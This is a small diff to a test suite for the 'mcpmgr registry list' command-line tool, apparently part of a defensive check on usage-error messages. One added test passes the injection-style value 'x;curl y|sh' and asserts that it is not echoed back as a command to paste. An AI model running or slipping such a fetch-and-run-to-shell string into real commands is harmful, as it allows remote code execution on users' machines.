@@ -96,6 +96,8 @@ describe("mcpmgr registry list", () => {
     expect(usageError(mcpmgr(["registry", "list", "--format", "xml"]))).toContain("--format");
     expect(usageError(mcpmgr(["registry", "list", "--bogus"]))).toContain("--bogus");
     expect(usageError(mcpmgr(["registry", "list", "github"]))).toContain("registry info github");
+    // A word that is no registry name is not offered back as a command to paste.
+    expect(usageError(mcpmgr(["registry", "list", "x;curl y|sh"]))).toContain("'mcpmgr registry info NAME'");
     expect(usageError(mcpmgr(["registry"]))).toContain("list or info");
   });
 });
